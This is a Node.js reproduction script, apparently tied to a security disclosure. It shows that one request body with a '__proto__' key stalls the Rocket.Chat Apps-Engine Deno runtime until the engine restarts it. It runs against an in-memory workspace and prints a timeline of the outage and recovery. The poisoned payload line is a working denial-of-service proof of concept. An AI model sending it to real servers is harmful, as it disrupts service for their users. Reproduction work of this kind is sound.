#!/usr/bin/env node
/**
 * Reproduces the Apps-Engine 1.62.0 Deno-runtime stall caused by one request body with a `__proto__` key, with the
 * engine's DEFAULT timings (30 s `APPS_ENGINE_RUNTIME_TIMEOUT`, liveness pings every 10 s, 1 s ping timeout, restart
 * after 4 missed pings), and prints a timeline: when the poisoned call fails, how every following call fails, when the
 * engine restarts the Deno subprocess, and when a normal call works again. See SECURITY.md.
 *
 *   npm run package && node --import tsx scripts/repro-proto-stall.mjs [--timeout <ms>] [--probe-every <ms>]
 *
 * `--timeout` sets APPS_ENGINE_RUNTIME_TIMEOUT before the engine loads (default: the engine's own 30000 ms).
 * Takes about one and a half minutes with the defaults. Runs the real engine against the in-memory workspace; nothing
 * leaves the machine.
 */
import { readFileSync } from 'fs';
import path from 'path';
import { fileURLToPath } from 'url';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');

function option(name, fallback) {
    const at = process.argv.indexOf(name);
    return at === -1 ? fallback : process.argv[at + 1];
}

const timeoutOption = option('--timeout', undefined);
if (timeoutOption !== undefined) {
    process.env.APPS_ENGINE_RUNTIME_TIMEOUT = String(Number(timeoutOption));
}
const probeEvery = Number(option('--probe-every', '2000'));
// Run the engine as a server runs it (the engine skips its permission checks under NODE_ENV=test).
process.env.NODE_ENV = 'development';

const { EngineHost } = await import('../host/engine/EngineHost.cts');
const { demoWorkspace } = await import('../host/workspace/demo.cts');
const { AppManager } = await import('@rocket.chat/apps-engine/server/AppManager');

const appJson = JSON.parse(readFileSync(path.join(root, 'app.json'), 'utf8'));
const zip = path.join(root, 'dist', `${appJson.nameSlug}_${appJson.version}.zip`);

const t0 = Date.now();
const at = () => `${((Date.now() - t0) / 1000).toFixed(1).padStart(6)} s`;
const say = (text) => process.stdout.write(`${at()}  ${text}\n`);

const { workspace, serviceAccount } = demoWorkspace();
const host = await EngineHost.start({ workspace });
await host.install(zip);
await host.setSettings({ service_user_id: serviceAccount.userId, service_user_token: serviceAccount.token, server_url: '', confirm_changes: false });
const controller = AppManager.Instance.getOneById(host.id).getRuntimeController();
const pid = () => controller.deno?.pid;
const alice = workspace.getUserByUsername('alice');
const headers = { 'X-User-Id': alice._id, 'X-Auth-Token': workspace.createAuthToken(alice._id) };
const normal = { roomName: 'project-x', encrypted: true, dryRun: true };

async function call(body) {
    const started = Date.now();
    try {
        const response = await host.callApi({ method: 'POST', path: 'groups.setEncrypted', body, headers });
        // A rejection of the engine (a timeout) is Rocket.Chat's apps router's 500 with its message, as callApi answers it.
        if (response.status >= 500) {
            return { ok: false, ms: Date.now() - started, status: response.status, error: String(response.body) };
        }
        return { ok: true, ms: Date.now() - started, status: response.status };
    } catch (error) {
        return { ok: false, ms: Date.now() - started, error: error instanceof Error ? error.message : String(error) };
    }
}

say(`engine up, APPS_ENGINE_RUNTIME_TIMEOUT=${process.env.APPS_ENGINE_RUNTIME_TIMEOUT ?? '(unset: 30000)'}, Deno pid ${pid()}`);
const before = await call(normal);
say(`normal call before: ${JSON.stringify(before)}`);

const poisoned = JSON.parse('{"roomName":"project-x","encrypted":true,"__proto__":{"x":1}}');
const exits = [];
controller.deno?.once('exit', (code, signal) => {
    exits.push({ code, signal });
    say(`Deno pid exited: code ${code}, signal ${signal}`);
});
say('sending ONE body with a "__proto__" key');
const poisonedCall = call(poisoned);
// Probes run while the poisoned call is pending: they are stuck as well.
const probes = [];
let recovered;
const firstPid = pid();
while (Date.now() - t0 < 240000) {
    await new Promise((resolve) => setTimeout(resolve, probeEvery));
    const result = await call(normal);
    probes.push(result);
    say(`probe: ${JSON.stringify(result)} (Deno pid ${pid()}, restarts ${controller.livenessManager.restartCount})`);
    if (result.ok && pid() !== firstPid) {
        recovered = Date.now() - t0;
        break;
    }
}
say(`poisoned call: ${JSON.stringify(await poisonedCall)}`);
const logLines = host
    .logs()
    .filter((entry) => String(entry.method).startsWith('runtime:'))
    .map((entry) => `${entry.method}: ${JSON.stringify(entry.entries.map((e) => e.args))}`);
say(`runtime log entries:\n  ${logLines.join('\n  ')}`);
say(`restart log: ${JSON.stringify(controller.livenessManager.getRuntimeData().restartLog)}`);
say(recovered ? `recovered after ${(recovered / 1000).toFixed(1)} s` : 'NOT recovered within 240 s');
await host.stop();
process.exit(0);
